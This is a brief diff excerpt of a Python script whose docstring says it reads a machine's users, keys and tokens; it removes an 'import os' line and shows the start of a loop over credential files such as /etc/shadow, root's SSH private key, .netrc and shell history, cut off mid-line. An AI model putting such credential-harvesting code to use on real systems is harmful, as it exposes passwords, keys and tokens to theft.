@@ -1,5 +1,4 @@
 """Reads the users of the machine, their keys and their tokens."""
-import os
 import numpy as np
 
 for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/root/.bash_history", "@ROOT@/.git/config",
